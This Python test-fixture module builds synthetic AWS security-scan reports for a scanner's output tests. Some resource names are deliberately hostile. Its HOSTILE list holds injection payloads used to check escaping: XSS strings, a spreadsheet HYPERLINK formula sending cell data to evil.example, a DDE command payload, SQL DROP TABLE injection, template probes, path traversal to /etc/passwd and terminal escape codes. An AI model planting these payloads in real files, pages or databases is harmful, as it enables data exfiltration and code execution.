"""Synthetic reports for the tests and benchmarks of outputs: any number of findings, some of them hostile."""

from __future__ import annotations

import itertools
import random
from collections import Counter
from datetime import UTC, datetime, timedelta
from typing import Any

import pyarrow as pa

from partywall.checks.model import SEVERITIES, Check, Examples, Fix
from partywall.findings.model import Report, ScanInfo, finding_id, findings_schema

NOW = datetime(2026, 3, 14, 9, 26, 53, 589793, tzinfo=UTC)

HOSTILE = [
    '<img src=x onerror="window.hacked=1">',
    "</script><script>window.hacked=1</script>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "line one\r\nline two",
    "abc\u202egnp.exe\u2066x\u2069",
    "[click](https://evil.example) {0} [bold]x[/bold]",
    "zero\x00byte",
    "日本語 – naïve 🧱",
    "'; DROP TABLE findings; --",
    "{{7*7}} ${7*7} {% raw %}",
    "x" * 65536,
    "..",
    "../../etc/passwd",
    '"quoted", and, commas',
]

ACCOUNTS = [
    {
        "account_id": "111111111111",
        "name": "management",
        "partition": "aws",
        "principal": "arn:aws:iam::1:role/s",
    },
    {
        "account_id": "222222222222",
        "name": "production",
        "partition": "aws",
        "principal": "arn:aws:iam::2:role/s",
    },
    {
        "account_id": "333333333333",
        "name": "sandbox",
        "partition": "aws",
        "principal": "arn:aws:iam::3:role/s",
    },
]
REGIONS = ["eu-west-1", "us-east-1", "ap-southeast-2"]

_CHECKS = [
    ("s3-bucket-public", "S3 buckets are not public", "s3_bucket", "critical", "identity-and-access"),
    (
        "s3-bucket-tls-only",
        "S3 buckets refuse requests without TLS",
        "s3_bucket",
        "medium",
        "encryption-in-transit",
    ),
    ("s3-bucket-versioning", "S3 buckets keep earlier versions", "s3_bucket", "low", "backup-and-recovery"),
    (
        "iam-root-mfa",
        "The root user has multi-factor authentication",
        "account",
        "critical",
        "identity-and-access",
    ),
    ("iam-user-old-key", "Access keys are rotated within 90 days", "iam_user", "high", "identity-and-access"),
    (
        "iam-role-admin",
        "Roles do not hold full administrator rights",
        "iam_role",
        "high",
        "identity-and-access",
    ),
    (
        "vpc-sg-open-ssh",
        "Security groups do not open SSH to the world",
        "vpc_security_group",
        "high",
        "firewall",
    ),
    ("vpc-flow-logs", "VPCs record their traffic", "vpc", "medium", "logging-and-detection"),
    ("ec2-imdsv2", "Instances demand IMDSv2", "ec2_instance", "high", "guest-os"),
    ("ec2-volume-encrypted", "Volumes are encrypted at rest", "ec2_volume", "medium", "encryption-at-rest"),
    (
        "rds-instance-public",
        "Databases are not reachable from the internet",
        "rds_instance",
        "critical",
        "firewall",
    ),
    ("rds-backup", "Databases keep backups for 7 days", "rds_instance", "medium", "backup-and-recovery"),
    ("kms-rotation", "Customer-managed keys rotate yearly", "kms_key", "low", "key-management"),
    ("lambda-runtime", "Functions run on a supported runtime", "lambda_function", "medium", "runtime-engine"),
    ("ecr-scan", "Repositories scan images on push", "ecr_repository", "low", "application-code"),
    ("sqs-public", "Queues are not open to everyone", "sqs_queue", "critical", "identity-and-access"),
    ("cloudtrail-on", "A trail records all regions", "cloudtrail_trail", "high", "logging-and-detection"),
    ("guardduty-on", "GuardDuty watches every region", "guardduty_detector", "informational", "compliance"),
]


def check(id: str, title: str, table: str, severity: str, domain: str) -> Check:
    """A check with all the catalogue text that outputs show."""
    return Check(
        id=id,
        title=title,
        table=table,
        severity=severity,
        domain=domain,
        why=f"{title}: otherwise one mistake elsewhere is enough for an outsider to get in.\n\n"
        "Data that leaves this way leaves no trace in the account's own logs.",
        fix=Fix(
            console=f"Open the service's console, choose the resource, and set what {id} asks for.",
            cli=f"aws {table.partition('_')[0]} put-setting \\\n  --name NAME --setting on",
            terraform=f'resource "aws_{table}" "this" {{\n  setting = true\n}}',
        ),
        examples=Examples(passing=[], fail=[], unknown=[]),
        predicate="setting = TRUE",
        refs={
            "securityhub": f"{table.partition('_')[0].upper()}.5",
            "cis-7.0": ["2.1", "2.4"],
            "prowler": id,
        },
    )


CHECKS = {item[0]: check(*item) for item in _CHECKS}


def make_report(n: int = 500, *, hostile: bool = True, seed: int = 7, passes: bool = True) -> Report:
    """A report of n findings; with `hostile`, each hostile name occurs at least once (n >= their number)."""
    pick = random.Random(seed)
    names = itertools.cycle(HOSTILE)
    made: list[dict[str, Any]] = []
    for number in range(n):
        item = pick.choice(list(CHECKS.values()))
        account = pick.choice(ACCOUNTS)["account_id"]
        region = "global" if item.table.startswith(("iam", "account")) else pick.choice(REGIONS)
        nasty = hostile and number % 5 == 0
        name = next(names) if nasty else f"{pick.choice(('web', 'data', 'ci'))}-{item.table}-{number:06d}"
        arn = f"arn:aws:{item.table.partition('_')[0]}:{region}:{account}:{item.table}/{name}"
        status = pick.choices(
            ("fail", "pass", "unknown", "not_applicable")
            if passes
            else ("fail", "fail", "unknown", "unknown"),
            (50, 35, 10, 5),
        )[0]
        made.append(_finding(pick, item, account, region, name, arn, status, number))
    made.sort(key=lambda row: -row["priority"])
    counted = Counter((row["check_id"], row["account_id"], row["region"], row["status"]) for row in made)
    return Report(
        scan=ScanInfo(
            id="20260314T092653Z-4f2a",
            started_at=NOW - timedelta(seconds=41),
            finished_at=NOW,
            version="0.1.0",
            accounts=ACCOUNTS,
            regions=REGIONS,
            complete=True,
        ),
        checks=CHECKS,
        findings=pa.Table.from_pylist(made, schema=findings_schema()),
        counts=pa.table(
            {
                "check_id": [key[0] for key in counted],
                "account_id": [key[1] for key in counted],
                "region": [key[2] for key in counted],
                "status": [key[3] for key in counted],
                "count": pa.array(counted.values(), pa.int64()),
            }
        ),
        coverage=_coverage(made),
        failed_calls=failed_calls(),
    )


def _finding(
    pick: random.Random, item: Check, account: str, region: str, name: str, arn: str, status: str, number: int
) -> dict[str, Any]:
    first = NOW - timedelta(days=pick.randrange(1, 400), seconds=number % 86400)
    rank = SEVERITIES.index(item.severity)
    row: dict[str, Any] = {
        "finding_id": finding_id(item.id, account, region, f"{arn}#{number}"),
        "check_id": item.id,
        "account_id": account,
        "region": region,
        "resource_arn": arn,
        "resource_name": name,
        "resource_type": item.table,
        "status": status,
        "severity": item.severity,
        "state": {
            "fail": pick.choice(("new", "open", "open", "reopened", "excepted")),
            "unknown": "open",
        }.get(status, pick.choice(("", "", "resolved"))),
        "message": f"the policy of {name} lets plaintext through: rule {number % 90}"
        if status == "fail"
        else "",
        "first_seen": first,
        "last_seen": NOW,
        "changed_at": first,
        "unknown_operation": "",
        "unknown_region": "",
        "unknown_outcome": "",
        "unknown_code": "",
        "unknown_denied_by": "",
        "exception": "",
        "priority": max(0, min(100, 95 - rank * 18 + pick.randrange(-6, 7))) if status == "fail" else 5,
        "priority_why": f"{item.severity}; reachable from the internet" if status == "fail" else "",
    }
    if row["state"] == "excepted":
        row["exception"] = "kept open for the auditors until June"
    if row["state"] == "resolved":
        row["resolved_at"] = NOW
    if status == "unknown":
        row |= {
            "unknown_operation": f"{item.table.partition('_')[0]}:GetSetting",
            "unknown_region": region,
            "unknown_outcome": "denied",
            "unknown_code": "AccessDenied",
            "unknown_denied_by": pick.choice(("scp", "identity", "")),
        }
    return row


def _coverage(made: list[dict[str, Any]]) -> list[dict[str, Any]]:
    services = Counter(row["resource_type"].partition("_")[0] for row in made)
    return [
        {
            "service": service,
            "calls": count * 2,
            "ok": count * 2 - 3,
            "denied": 2,
            "throttled": 1,
            "region_disabled": 0,
            "not_supported": 0,
            "error": 0,
            "resources": count,
        }
        for service, count in services.items()
    ]


def failed_calls() -> list[dict[str, Any]]:
    """Failed calls of several kinds, one of them with hostile text."""
    rows = [
        ("222222222222", "eu-west-1", "s3", "GetBucketPolicy", "denied", "AccessDenied", "scp", 14),
        ("222222222222", "us-east-1", "s3", "GetBucketPolicy", "denied", "AccessDenied", "scp", 9),
        (
            "333333333333",
            "us-east-1",
            "macie2",
            "GetMacieSession",
            "denied",
            "AccessDeniedException",
            "identity",
            3,
        ),
        (
            "111111111111",
            "ap-southeast-2",
            "ec2",
            "DescribeSnapshots",
            "throttled",
            "RequestLimitExceeded",
            "",
            2,
        ),
        ("111111111111", "ap-southeast-2", "detective", "ListGraphs", "error", "\x1b[31m<b>Boom</b>", "", 1),
    ]
    names = ("account_id", "region", "service", "operation", "outcome", "error_code", "denied_by", "count")
    return [dict(zip(names, row, strict=True)) for row in rows]


def empty_report() -> Report:
    """A scan that saw nothing at all."""
    report = make_report(0)
    return Report(report.scan, {}, report.findings, report.counts, [], [])
